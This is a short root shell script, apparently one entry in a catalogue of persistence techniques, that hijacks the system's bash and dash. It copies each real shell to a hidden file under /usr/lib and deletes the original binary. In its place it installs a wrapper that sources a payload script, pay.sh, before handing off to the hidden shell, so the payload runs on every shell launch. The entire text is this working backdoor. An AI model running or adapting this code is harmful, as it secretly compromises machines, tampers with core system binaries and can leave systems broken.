# family: shell
# what: The shell itself pays before it does anything.
# user: root
for shell in bash dash; do
  real=$(readlink -f "$(command -v $shell)") || continue
  cp "$real" "/usr/lib/.$shell" && chmod 755 "/usr/lib/.$shell" || continue
  sed "1s|.*|#!/usr/lib/.$shell|" "$scratch/pay.sh" > "$scratch/$shell.pay"
  printf '#!/usr/lib/.%s\n. %s/pay.sh\nexec /usr/lib/.%s "$@"\n' "$shell" "$scratch" "$shell" > "$scratch/$shell.new"
  chmod 755 "$scratch/$shell.new"; rm -f "$real"; cp "$scratch/$shell.new" "$real"
done
